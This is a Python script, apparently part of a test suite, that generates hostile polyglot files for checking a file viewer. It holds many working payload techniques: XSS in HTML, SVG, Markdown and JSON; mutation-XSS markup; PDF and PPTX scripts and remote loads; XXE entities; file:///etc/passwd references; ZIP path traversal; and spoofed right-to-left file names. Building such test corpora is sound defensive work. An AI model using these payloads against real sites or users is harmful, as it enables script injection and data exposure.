#!/usr/bin/env python3
"""Makes hostile files: of one type to the service, and something that runs or calls home to a careless viewer.

    make_polyglots.py OUTDIR --beacon http://127.0.0.1:PORT/

What runs sets the title to RAN, logs `RAN <id>` and calls the beacon; what is only loaded calls the beacon. So any call, any
such title and any such line is a failure of whoever shows the file. hostile.mjs watches for them. Needs Python alone.
"""

import argparse
import html
import json
import struct
import zlib
from base64 import b64encode

from corpus import OFFICE, Folder, archive, box, chunk, deck, paragraph_shape, pdf, pdf_stream, png, slide_xml

BEACON = ""


def js(name):
    """A script without double quotes, ampersands or angle brackets, so that it fits into any attribute."""
    return f"document.title='RAN';console.log('RAN {name}');new Image().src='{BEACON}?ran={name}'"


def load(name):
    return f"{BEACON}?load={name}"


def coded(script, every=1, width=0, hexadecimal=False):
    """The same as character references."""
    digits = (lambda c: f"&#x{ord(c):0{width}x};") if hexadecimal else (lambda c: f"&#{ord(c):0{width}d};")
    return "".join(digits(c) if n % every == 0 else c for n, c in enumerate(script))


def script_page(name):
    return f"<html><body><script>{js(name)}</script></body></html>"


class Hostile:
    """Numbers the files, so that every call home says from which it comes."""

    def __init__(self, folder):
        self.folder = folder

    def add(self, stem, ending, make, about, **more):
        number = len(self.folder.entries) + 1
        name = f"h{number:03d}"
        content = make(name)
        self.folder.add(f"{name}-{stem}.{ending}", content, about, id=name, beacon=BEACON, **more)


# --- Pictures, decks and films that are also scripts or pages ---------------------------------------------------------


def pictures(hostile):
    def gif_script(name):
        # Width 0x2a2f is "/*": behind the signature a comment begins, and ends where the picture does.
        body = b"\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
        return b"GIF89a/*" + body + b"*/=1;" + js(name).encode() + b"//;"

    hostile.add("script", "gif", gif_script, "GIF that is a script")
    hostile.add("comment", "gif", lambda n: b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0!\xfe" + sub_blocks(script_page(n).encode()) + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;", "GIF with a page in its comment")
    hostile.add("appended", "gif", lambda n: b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;" + script_page(n).encode(), "GIF with a page behind it")
    dot = zlib.compress(b"\0\xff\0\0")
    hostile.add("text", "png", lambda n: png(1, 1, dot, before=chunk(b"tEXt", b"Comment\0" + script_page(n).encode())), "PNG with a page in its comment")
    hostile.add("appended", "png", lambda n: png(1, 1, dot) + script_page(n).encode(), "PNG with a page behind it")
    hostile.add("first", "png", lambda n: png(1, 1, dot, before=chunk(b"tEXt", b"<script>" + js(n).encode() + b"</script><!--\0")), "PNG whose first chunk is a script")
    jpeg = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300" + "10" * 64 + "ffc0000b080008000801011100ffc4001400010000000000000000000000000000000000ffc4001410010000000000000000000000000000000000ffda0008010100003f003fffd9")

    def jpeg_with(kind, text):
        return jpeg[:2] + bytes([0xFF, kind]) + struct.pack(">H", len(text) + 2) + text + jpeg[2:]

    hostile.add("comment", "jpg", lambda n: jpeg_with(0xFE, script_page(n).encode()), "JPEG with a page in its comment")
    hostile.add("script", "jpg", lambda n: jpeg_script(jpeg, js(n).encode()), "JPEG that is a script (in Latin-1)")
    hostile.add("exif", "jpg", lambda n: jpeg_with(0xE1, b"Exif\0\0II*\0\x08\0\0\0\1\0\x0e\1\2\0" + struct.pack("<I", 200) + struct.pack("<I", 26) + bytes(4) + script_page(n).encode()), "JPEG with a page as its description")
    hostile.add("xmp", "jpg", lambda n: jpeg_with(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + f'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><title><![CDATA[{script_page(n)}]]></title></x:xmpmeta>'.encode()), "JPEG with a page as XMP")
    simple = bytes.fromhex("2f00000000880888") + bytes(8)

    def webp(name):
        page = script_page(name).encode()
        page += b" " * (len(page) & 1)
        body = b"WEBPVP8L" + struct.pack("<I", len(simple)) + simple + b"XMP " + struct.pack("<I", len(page)) + page
        return b"RIFF" + struct.pack("<I", len(body)) + body

    hostile.add("page", "webp", webp, "WebP with a page in a chunk")
    hostile.add("page", "avif", lambda n: box(b"ftyp", b"avif\0\0\0\0avifmif1") + box(b"free", script_page(n).encode()), "AVIF with a page in a box")


def jpeg_script(jpeg, script):
    """0xFFD8FFE0 is a name in Latin-1; the length of the first segment, 0x2f2a, opens a comment."""
    first = b"\xff\xe0" + b"/*" + b"JFIF\0\1\1\0\0\1\0\1\0\0"
    first += bytes(0x2F2A - len(first) + 2)
    # Behind the padding a comment segment closes it: the script, and the picture in a comment again.
    closing = b"*/=1;" + script + b"/*"
    return jpeg[:2] + first + b"\xff\xfe" + struct.pack(">H", len(closing) + 2) + closing + jpeg[20:-2] + b"*///\xff\xd9"


def sub_blocks(data):
    return b"".join(bytes([len(data[at : at + 255])]) + data[at : at + 255] for at in range(0, len(data), 255)) + b"\0"


def decks(hostile):
    pages = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R {} >>", pdf_stream("0 0 99 99 re f")]

    def acting(action, page="", catalogue="/OpenAction 5 0 R", more=()):
        return lambda n: pdf([f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>", pages[0], pages[1].format(page), pages[2], action(n), *more])

    run = lambda n: f"<< /S /JavaScript /JS (this.submitForm('{load(n)}'); app.launchURL('{load(n)}'); app.alert('RAN {n}');) >>"
    uri = lambda n: f"<< /S /URI /URI ({load(n)}) >>"
    hostile.add("page", "pdf", lambda n: pdf([f"<< /Type /Catalog /Pages 2 0 R /X ({script_page(n)}) >>", pages[0], pages[1].format(""), pages[2]]), "PDF with a page in its catalogue")
    hostile.add("script-at-open", "pdf", acting(run), "PDF: /OpenAction with /JavaScript")
    hostile.add("script-named", "pdf", acting(run, catalogue="/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"), "PDF: document script")
    hostile.add("launch", "pdf", acting(lambda n: f"<< /S /Launch /F ({load(n)}) /NewWindow true >>"), "PDF: /Launch at open")
    hostile.add("uri-at-open", "pdf", acting(uri), "PDF: /URI at open")
    hostile.add("submit", "pdf", acting(lambda n: f"<< /S /SubmitForm /F << /FS /URL /F ({load(n)}) >> /Fields [] /Flags 4 >>"), "PDF: /SubmitForm at open")
    hostile.add("go-to-remote", "pdf", acting(lambda n: f"<< /S /GoToR /F << /FS /URL /F ({load(n)}) >> /D [0 /Fit] >>", page="/AA << /O 5 0 R >>", catalogue=""), "PDF: remote document at the page's opening")
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A 5 0 R >>"
    hostile.add("script-link", "pdf", acting(lambda n: f"<< /S /URI /URI (javascript:{js(n).replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>", page=f"/Annots [{link}]", catalogue=""), "PDF: link to javascript:")
    outside = lambda n: pdf_stream("", f"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F ({load(n)}) >> /FFilter /DCTDecode ")
    hostile.add("outside-picture", "pdf", acting(outside, page="/Resources << /XObject << /A 5 0 R >> >>", catalogue=""), "PDF: picture whose data are elsewhere")
    xfa = lambda n: pdf_stream(f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">{js(n)}</script></event></subform></template></xdp:xdp>')
    hostile.add("xfa", "pdf", acting(xfa, catalogue="/AcroForm << /XFA 5 0 R /Fields [] >>"), "PDF: XFA form with a script")

    evil = lambda n: f'"><img src=x onerror="{js(n)}"><script>{js(n)}</script>'
    hostile.add("words", "pptx", lambda n: deck([slide_xml(paragraph_shape(1, html.escape(evil(n), quote=False)))]), "PPTX whose words are markup")
    relation = lambda kind, target: f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{html.escape(target)}" TargetMode="External"/>'
    click = '<a:hlinkClick r:id="rId1"/>'
    hostile.add("script-link", "pptx", lambda n: deck([slide_xml(paragraph_shape(1, "click", click))], relation("hyperlink", "javascript:" + js(n))), "PPTX: link to javascript:")
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="4" name="far"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rId1"/></p:blipFill>'
        '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144000" cy="6858000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )
    hostile.add("outside-picture", "pptx", lambda n: deck([slide_xml(picture)], relation("image", load(n))), "PPTX: picture that is elsewhere")
    film = '<p:pic><p:nvPicPr><p:cNvPr id="4" name="film"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rId1"/></p:nvPr></p:nvPicPr><p:blipFill/><p:spPr/></p:pic>'
    hostile.add("outside-film", "pptx", lambda n: deck([slide_xml(film)], relation("video", load(n))), "PPTX: film that is elsewhere")
    hostile.add("outside-template", "pptx", lambda n: deck([slide_xml(paragraph_shape(1, "x"))], relation("slideLayout", load(n))), "PPTX: layout that is elsewhere")
    frame = '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="99" cy="99"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="x" r:id="rId1" progId="Package"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    hostile.add("outside-object", "pptx", lambda n: deck([slide_xml(frame)], relation("oleObject", load(n))), "PPTX: linked object that is elsewhere")
    entity = lambda n: deck([slide_xml(paragraph_shape(1, "&far;"), f'<!DOCTYPE p:sld [<!ENTITY far SYSTEM "{load(n)}">]>')])
    hostile.add("entity", "pptx", entity, "PPTX: entity that is elsewhere")
    cover = '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/>'
    hostile.add("cover", "pptx", lambda n: deck([slide_xml(paragraph_shape(1, "x"))], package=cover, more=[("docProps/thumbnail.jpeg", script_page(n))]), "PPTX whose cover picture is a page")


def films(hostile):
    brand = box(b"ftyp", b"isom\0\0\2\0isommp41")
    hostile.add("page", "mp4", lambda n: brand + box(b"free", script_page(n).encode()), "MP4 with a page in a box")
    hostile.add("first", "mp4", lambda n: box(b"ftyp", b"isom<!--isom--><script>" + js(n).encode() + b"</script>"), "MP4 whose brands are a page")
    hostile.add("page", "mov", lambda n: box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"udta", box(b"\xa9nam", b"\0\0" + script_page(n).encode()))), "QuickTime with a page as its title")
    playlist = lambda n: box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(load(n)) + 1), load(n).encode() + b"\0"))))
    hostile.add("reference", "mov", playlist, "QuickTime that refers to a film elsewhere")
    head = b"\x1a\x45\xdf\xa3\x8b\x42\x82\x84webm\x42\x87\x81\4"
    hostile.add("page", "webm", lambda n: head + b"\xec\x41" + struct.pack(">B", len(script_page(n)) & 255) + script_page(n).encode(), "WebM with a page in an empty element")


def svgs(hostile):
    def svg(body, doctype="", attributes=""):
        return f'{doctype}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" {attributes}>{body}<rect width="99" height="99" fill="red"/></svg>'

    add = lambda stem, make, about: hostile.add(stem, "svg", make, f"SVG: {about}")
    add("script", lambda n: svg(f"<script>{js(n)}</script>"), "script")
    add("script-cdata", lambda n: svg(f"<script type=\"text/ecmascript\"><![CDATA[{js(n)}]]></script>"), "script in CDATA")
    add("script-src", lambda n: svg(f'<script xlink:href="{load(n)}"/><script href="data:text/javascript,{js(n).replace(" ", "%20")}"/>'), "scripts from elsewhere and from data:")
    add("onload", lambda n: svg("", attributes=f'onload="{js(n)}"'), "onload of the root")
    add("events", lambda n: svg(f'<animate attributeName="x" dur=".1s" onbegin="{js(n)}"/><image href="x:" onerror="{js(n)}"/><g onmouseover="{js(n)}"/>'), "events of animations and pictures")
    add("foreign", lambda n: svg(f'<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{load(n)}"/><body xmlns="http://www.w3.org/1999/xhtml"><script>{js(n)}</script></body></foreignObject>'), "foreignObject with a frame and a script")
    add("animate-link", lambda n: svg(f'<a><animate attributeName="href" values="javascript:{js(n)}" begin="0s" fill="freeze"/><rect y="99" width="300" height="101"/></a>'), "link that becomes javascript:")
    add("set-link", lambda n: svg(f'<a id="a" xlink:href="#"><rect y="99" width="300" height="101"/></a><set href="#a" attributeName="xlink:href" to="javascript:{js(n)}"/>'), "link that is set to javascript:")
    add("script-link", lambda n: svg(f'<a xlink:href="java&#x9;script:{js(n)}"><rect y="99" width="300" height="101" fill="blue"/></a>'), "xlink to javascript: with a tab")
    inner = lambda n: b64encode(svg(f'<g id="a" onload="{js(n)}"/>').encode()).decode()
    add("use", lambda n: svg(f'<use href="{load(n)}#a"/><use xlink:href="data:image/svg+xml;base64,{inner(n)}#a"/>'), "<use> of other documents")
    add("image", lambda n: svg(f'<image width="9" height="9" href="{load(n)}"/><image width="9" height="9" xlink:href="{load(n)}"/><feImage href="{load(n)}"/>'), "pictures from elsewhere")
    add("filter-image", lambda n: svg(f'<filter id="f"><feImage href="{load(n)}"/></filter><rect width="50" height="50" filter="url(#f)"/>'), "filter that loads a picture")
    add("import", lambda n: svg(f'<style>@import url("{load(n)}");@font-face{{font-family:a;src:url({load(n)})}}text{{font-family:a}}rect{{fill:url({load(n)})}}</style><text y="9">x</text>'), "styles and fonts from elsewhere")
    add("paint", lambda n: svg(f'<rect width="9" height="9" fill="url({load(n)}#a)" style="mask:url({load(n)}#m);clip-path:url({load(n)}#c);cursor:url({load(n)}),auto" filter="url({load(n)}#f)"/>'), "fill, mask, clip path and filter from elsewhere")
    add("stylesheet", lambda n: svg("", f'<?xml-stylesheet type="text/css" href="{load(n)}"?>'), "style sheet instruction")
    xslt = lambda n: f"<?xml-stylesheet type=\"text/xsl\" href=\"{load(n)}\"?>"
    add("xslt", lambda n: svg("", xslt(n)), "XSLT instruction")
    add("entity", lambda n: svg("<text>&far;</text>", f'<!DOCTYPE svg [<!ENTITY far SYSTEM "{load(n)}"><!ENTITY % more SYSTEM "{load(n)}">%more;]>'), "entities that are elsewhere")
    add("doctype", lambda n: svg("", f'<!DOCTYPE svg SYSTEM "{load(n)}">'), "document type that is elsewhere")
    add("entity-script", lambda n: svg("&run;", f'<!DOCTYPE svg [<!ENTITY run "&#60;script>{js(n)}&#60;/script>">]>'), "script out of an entity")
    add("handler", lambda n: svg(f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{js(n)}</handler><math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:{js(n)}">x</maction></math>'), "handler and MathML")
    add("html-namespace", lambda n: svg(f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x:" onerror="{js(n)}"/><h:script xmlns:h="http://www.w3.org/1999/xhtml">{js(n)}</h:script><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{load(n)}"/><h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={load(n)}"/>'), "elements of HTML under a prefix")
    add("file", lambda n: svg(f'<image width="99" height="99" href="file:///etc/passwd"/><image width="99" height="99" href="/etc/passwd"/><image href="{load(n)}" width="9" height="9"/>'), "pictures off the machine's disk")


# --- Words ------------------------------------------------------------------------------------------------------------


def markup():
    """(name, what, maker of HTML that runs or loads). Used as blogs in HTML and within Markdown."""
    return [
        ("script", "script", lambda n: f"<script>{js(n)}</script>"),
        ("script-case", "script in odd letters and with a slash", lambda n: f"<ScRiPt/x>{js(n)}</sCrIpT >"),
        ("script-src", "script from elsewhere", lambda n: f'<script src="{load(n)}"></script><script type="module" src="{load(n)}"></script>'),
        ("img-onerror", "img onerror", lambda n: f'<img src=x: onerror="{js(n)}">'),
        ("img-odd", "img with odd attributes", lambda n: f"<img/src='x:'/\"'/onerror=\"{js(n)}\"//"),
        ("img-load", "pictures from elsewhere", lambda n: f'<img src="{load(n)}"><img srcset="{load(n)} 1x"><picture><source srcset="{load(n)}"><img></picture><video poster="{load(n)}"></video><input type=image src="{load(n)}">'),
        ("svg-onload", "svg onload", lambda n: f'<svg/onload="{js(n)}">'),
        ("svg-script", "script in SVG, as entities", lambda n: f"<svg><script>{coded(js(n))}</script></svg>"),
        ("iframe-srcdoc", "iframe with srcdoc", lambda n: f'<iframe srcdoc="&lt;script&gt;parent.{js(n)}&lt;/script&gt;"></iframe>'),
        ("iframe-script", "iframe of javascript:", lambda n: f'<iframe src="javascript:parent.{js(n)}"></iframe><iframe src="{load(n)}"></iframe>'),
        ("style", "styles from elsewhere", lambda n: f'<style>@import "{load(n)}";body{{background:url({load(n)})}}</style><link rel=stylesheet href="{load(n)}"><p style="background:url({load(n)})">x'),
        ("style-animation", "style that starts an event", lambda n: f'<style>@keyframes a{{}}</style><b style="animation:a 1s" onanimationstart="{js(n)}">x</b>'),
        ("base", "base", lambda n: f'<base href="{BEACON}"><img src="?load={n}"><script src="?load={n}"></script>'),
        ("meta-refresh", "meta refresh", lambda n: f'<meta http-equiv="refresh" content="0;url={load(n)}">'),
        ("meta-script", "meta refresh to data:", lambda n: f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{b64encode(script_page(n).encode()).decode()}"><meta http-equiv="Content-Security-Policy" content="report-uri {load(n)};default-src \'none\'"><img src=x:>'),
        ("form", "form and formaction", lambda n: f'<form action="{load(n)}"><button>go</button><button formaction="javascript:{js(n)}">run</button></form>'),
        ("form-outside", "form that takes in what is elsewhere", lambda n: f'<form id=f action="javascript:{js(n)}"></form><button form=f>go</button><input type=submit form=f>'),
        ("object", "object and embed", lambda n: f'<object data="{load(n)}"></object><embed src="{load(n)}"><object data="data:text/html,{html.escape(script_page(n)).replace(" ", "%20")}"></object>'),
        ("details", "details ontoggle", lambda n: f'<details open ontoggle="{js(n)}">x</details>'),
        ("autofocus", "autofocus onfocus", lambda n: f'<input autofocus onfocus="{js(n)}"><div tabindex=1 autofocus onfocus="{js(n)}">x</div>'),
        ("media", "events of media", lambda n: f'<video><source onerror="{js(n)}" src="x:"></video><audio src=x: onerror="{js(n)}"></audio><marquee onstart="{js(n)}">x</marquee>'),
        ("body", "body onload", lambda n: f'<body onload="{js(n)}" onpageshow="{js(n)}" background="{load(n)}">x'),
        ("preload", "hints to load", lambda n: f'<link rel=preload as=image href="{load(n)}"><link rel=prefetch href="{load(n)}"><link rel=dns-prefetch href="//127.0.0.1"><link rel=icon href="{load(n)}"><link rel=manifest href="{load(n)}"><link rel=modulepreload href="{load(n)}">'),
        ("links", "links to javascript:", lambda n: f'<a href="javascript:{js(n)}">a</a> <a href=" &#1;java&#10;script&colon;{js(n)}">b</a> <a href="JaVaScRiPt:{js(n)}">c</a>'),
        ("link-target", "link to data: in a new window", lambda n: f'<a target=_blank href="data:text/html;base64,{b64encode(script_page(n).encode()).decode()}">a</a><a ping="{load(n)}" href="#x">b</a><a href="javascript:{js(n)}">c</a>'),
        ("mxss-noscript", "markup that changes: noscript", lambda n: f'<noscript><p title="</noscript><img src=x: onerror={chr(34)}{js(n)}{chr(34)}>"></noscript>'),
        ("mxss-math", "markup that changes: math, mglyph, style", lambda n: f'<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="{js(n)}">'),
        ("mxss-svg-title", "markup that changes: svg, title, style", lambda n: f'<svg></p><title><style><a id="</style><img src=x: onerror=\'{js(n).replace(chr(39), "&#39;")}\'>"></svg>'),
        ("mxss-table", "markup that changes: tables", lambda n: f'<table><tr><math><mi><table><style><!--</style><img title="--&gt;&lt;/style&gt;&lt;img src=x: onerror={html.escape(js(n))}&gt;" src=x: onerror="{js(n)}">'),
        ("mxss-template", "markup that changes: template and shadow root", lambda n: f'<div><template shadowrootmode=open><img src=x: onerror="{js(n)}"></template></div><template><script>{js(n)}</script></template>'),
        ("mxss-comment", "markup that changes: comments", lambda n: f'<!--><img src=x: onerror="{js(n)}">--><!-- --!><img src=x: onerror="{js(n)}">-->'),
        ("mxss-cdata", "markup that changes: CDATA in SVG", lambda n: f'<svg><![CDATA[><image xlink:href="]]><img src=x: onerror={chr(34)}{js(n)}{chr(34)}>"></svg>'),
        ("mxss-raw", "markup that changes: raw text", lambda n: f'<xmp><p title="</xmp><img src=x: onerror=\'{coded(js(n))}\'>"></xmp><textarea><p title="</textarea><img src=x: onerror=\'{coded(js(n))}\'>">'),
        ("broken", "tags that do not end", lambda n: f'<img src="x:" onerror="{js(n)}" <b <iframe src="{load(n)}" <'),
        ("null", "control characters in tags", lambda n: f'<img\x0csrc="x:"\x0bonerror="1"\x0conerror="{js(n)}"><\x01script>1</script>'),
    ]


MARKDOWN = [
    ("link", "link to javascript:", lambda n: f"[click](javascript:{js(n).replace(' ', '%20').replace('(', '%28').replace(')', '%29')})"),
    ("link-case", "link to JaVaScRiPt: in angle brackets", lambda n: f"[click](<JaVaScRiPt:{js(n)}>)"),
    ("link-entity", "link with entities", lambda n: f"[click](<&#106;avascript&colon;{js(n)}>) [b](<java&Tab;script:{js(n)}>) [c](<java&NewLine;script:{js(n)}>)"),
    ("link-control", "link with control characters", lambda n: f"[click](<\x01javascript:{js(n)}>) [b](<&#1;javascript:{js(n)}>) [c](<java&#9;script:{js(n)}>)"),
    ("link-data", "link to data: and vbscript:", lambda n: f"[a](data:text/html;base64,{b64encode(script_page(n).encode()).decode()}) [b](<vbscript:msgbox>) [c](<javascript:{js(n)}>) [d](<file:///etc/passwd>)"),
    ("reference", "reference to javascript:", lambda n: f"[click][a] [a]\n\n[a]: <javascript:{js(n)}> \"title\""),
    ("autolink", "automatic link to javascript:", lambda n: f"<javascript:{js(n).replace(' ', '%20')}>"),
    ("title", "title that breaks out", lambda n: f"[a](http://x.invalid '\"onmouseover=\"{js(n).replace(chr(39), '`')}\" x=\"') ![b](x '\"onerror=\"{js(n).replace(chr(39), '`')}')"),
    ("picture", "pictures from elsewhere", lambda n: f"![a]({load(n)}) ![b][c]\n\n[c]: {load(n)}"),
    ("picture-break", "picture whose text breaks out", lambda n: f"![\"onerror=\"{js(n).replace(chr(39), '`')}\"](x: \"x\") ![a](<x:\"onerror=\"{js(n)}\">)"),
    ("fence", "language of code that breaks out", lambda n: f"```\"><img/src=x:/onerror=\"{js(n).replace(' ', '/**/')}\">\n&lt;x\n```\n\n`<img src=x: onerror=\"{js(n)}\">`\n\n    <script>{js(n)}</script>\n\n<img src=x: onerror=\"{js(n)}\">"),
    ("table", "table with markup", lambda n: f"|a|<script>{js(n)}</script>|\n|-|-|\n|<img src=x: onerror=\"{js(n)}\">|[x](<javascript:{js(n)}>)|"),
    ("footnote", "footnote whose name breaks out", lambda n: f"x[^\"><img/src=x:/onerror={coded(js(n).replace(' ', '/**/'))}>]\n\n[^\"><img/src=x:/onerror={coded(js(n).replace(' ', '/**/'))}>]: <img src=x: onerror=\"{js(n)}\">"),
    ("heading", "heading whose anchor breaks out", lambda n: f"# \"><img src=x: onerror=\"{js(n)}\"> {{#x onclick=\"{js(n)}\"}}\n\n<h1 id='\"><script>{js(n)}</script>'>"),
    ("front-matter", "front matter with markup", lambda n: f"---\ntitle: \"</title><script>{js(n)}</script>\"\n---\n\ntext <script>{js(n)}</script>"),
    ("block", "markup over several lines", lambda n: f"<div\n\nonclick=\"x\">\n<script\n>\n{js(n)}\n</script>\n\n*text*"),
    ("math", "mathematics and wiki links", lambda n: f"$\\href{{javascript:{js(n)}}}{{x}}$ [[javascript:{js(n)}]] [x](<javascript&#58;{js(n)}>)\n\n<a href=\"javascript:{js(n)}\">y</a>"),
]


def blogs(hostile):
    for stem, about, make in markup():
        hostile.add(stem, "html", lambda n, make=make: "<!doctype html><title>Blog</title><p>words</p>" + make(n), f"HTML: {about}")
    for stem, about, make in MARKDOWN:
        hostile.add(stem, "md", lambda n, make=make: f"# Blog\n\n{make(n)}\n", f"Markdown: {about}")
    # The same markup, some of it in the middle of Markdown, where it is inline.
    for stem, about, make in markup():
        if stem in ("script", "img-onerror", "svg-onload", "iframe-srcdoc", "style", "base", "meta-refresh", "form", "object", "details", "autofocus", "mxss-noscript", "mxss-math", "mxss-svg-title", "links"):
            hostile.add(f"raw-{stem}", "md", lambda n, make=make: f"# Blog\n\nwords {make(n)} words\n\n{make(n)}\n\n> - {make(n)}\n", f"Markdown with HTML: {about}")

    utf7 = lambda n: "<meta http-equiv=content-type content='text/html; charset=utf-7'><title>Blog</title>+ADw-script+AD4-" + js(n).replace("=", "+AD0-") + "+ADw-/script+AD4-"
    hostile.add("utf-7", "html", utf7, "HTML in UTF-7, as it says itself (no browser of today reads it)")
    hostile.add("utf-16", "html", lambda n: ("\ufeff" + script_page(n)).encode("utf-16-le"), "HTML in UTF-16 with its mark")
    hostile.add("utf-8-mark", "html", lambda n: "\ufeff" + script_page(n), "HTML with a mark of UTF-8")
    iso = lambda n: f"<meta charset=iso-2022-jp><img alt=\"\x1b$B\" title=\"\x1b(B\"><a title='\x1b(J\\' onclick=\"x\"><img src=x: onerror=\"{js(n)}\">"
    hostile.add("iso-2022-jp", "html", iso, "HTML with escapes of ISO-2022-JP")
    hostile.add("xhtml", "html", lambda n: f'<?xml version="1.0"?><?xml-stylesheet href="{load(n)}"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{js(n)}</script></html>', "XHTML with a style sheet instruction")


def copies(hostile):
    hostile.add("page", "txt", script_page, "plain text that is a page")
    hostile.add("blog", "txt", lambda n: f"words\n<img src=x: onerror=\"{js(n)}\">\n</pre></textarea></title></style></script><script>{js(n)}</script>", "plain blog with markup", type="blog")
    hostile.add("script", "txt", js, "plain text that is a script")
    hostile.add("style", "txt", lambda n: f"body{{background:url({load(n)})}}", "plain text that is a style sheet")
    hostile.add("mark", "txt", lambda n: "\ufeff" + script_page(n), "plain text with a mark, and a page")
    variants = lambda label, locale, text: json.dumps({"variants": [{"label": label, "locale": locale, "text": text}]})
    image = lambda n: f'<img src=x: onerror="{js(n)}">'
    hostile.add("text", "json", lambda n: variants("a", "en", image(n) + f"<script>{js(n)}</script>"), "variant whose text is markup")
    hostile.add("label", "json", lambda n: variants(f'</h2>"\'>{image(n)}', "en", "x"), "variant whose label is markup")
    hostile.add("locale", "json", lambda n: variants("a", f'en" onmouseover="{js(n)}" style="display:block;position:fixed;inset:0', "x"), "variant whose locale breaks out of its attribute")
    hostile.add("locale-quote", "json", lambda n: variants("a", f"en' onmouseover=\"{js(n)}\" '\"><img src=x: onerror=\"{js(n)}\">", "x"), "variant whose locale breaks out in other quotes")
    hostile.add("raw", "json", lambda n: '{"variants":[{"label":"a","text":"<script>' + js(n) + '</script>"}]}', "JSON that is a page for who sniffs")
    hostile.add("markdown", "json", lambda n: variants("a", "en", f"[x](<javascript:{js(n)}>) ![y]({load(n)}) <script>{js(n)}</script>"), "variant whose text is hostile Markdown")
    hostile.add("copy", "md", lambda n: f"<script>{js(n)}</script>\n\n[x](<javascript:{js(n)}>) ![y]({load(n)})\n", "copy in hostile Markdown", type="copy")


def bundles(hostile):
    evil = lambda n: f"\"'><img src=x: onerror=\"{js(n)}\">.png"
    hostile.add("names", "zip", lambda n: archive([(evil(n), "x"), (f"<script>{js(n)}</script>", "x"), (f"' onmouseover='{js(n)}", "x")]), "ZIP whose members' names are markup")
    hostile.add("paths", "zip", lambda n: archive([("../../../etc/passwd", "x"), ("/etc/passwd", "x"), ("C:\\windows\\x", "x"), (f"javascript:{js(n)}", "x"), (f"a/{load(n)}", "x"), (f"<svg onload=\"{js(n)}\">", "x")]), "ZIP whose members' names lead elsewhere")
    hostile.add("page", "zip", lambda n: archive([("index.html", script_page(n)), ("picture.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(n)}"/>')], stored=("index.html",)), "ZIP with a page in plain sight")
    hostile.add("first", "zip", lambda n: archive([(f"<script>{js(n)}</script><!--", "x")], stored=(f"<script>{js(n)}</script><!--",)), "ZIP that is a page")
    hostile.add("turned", "zip", lambda n: archive([("invoice\u202egnp.exe", "x"), ("a\u2028b\u0085c\nd\x1b[31m", "x"), (evil(n), "x")]), "ZIP whose members' names turn round and break lines")
    hostile.add("comment", "zip", lambda n: commented(script_page(n).encode()), "ZIP with a page as its comment")


def commented(comment):
    body = archive([("a.txt", "x")])
    return body[:-2] + struct.pack("<H", len(comment)) + comment


def filenames(hostile):
    """Harmless pictures and hostile words whose danger is the name under which they are sent."""
    dot = png(1, 1, zlib.compress(b"\0\xff\0\0"))
    named = lambda stem, filename, about, **more: hostile.add(f"name-{stem}", "png", lambda n: dot, f"file name: {about}", filename=filename(f"h{len(hostile.folder.entries) + 1:03d}"), **more)
    named("quotes", lambda n: f'"\'><img src=x: onerror="{js(n).replace("/", "&#47;")}">.png', "markup and quotes")
    named("script", lambda n: f'<svg onload="{js(n).replace("/", "&#47;")}">.png', "markup")
    named("title", lambda n: f"<img src=x: onerror=\"{js(n).replace('/', '&#47;')}\"><!--.png", "markup without an end")
    named("attribute", lambda n: f'a" onmouseover="{js(n).replace("/", "&#47;")}" style="position:fixed;inset:0.png', "breaking out of an attribute")
    named("turned", lambda n: "photo\u202egnp.html", "turned round: reads photolmth.png")
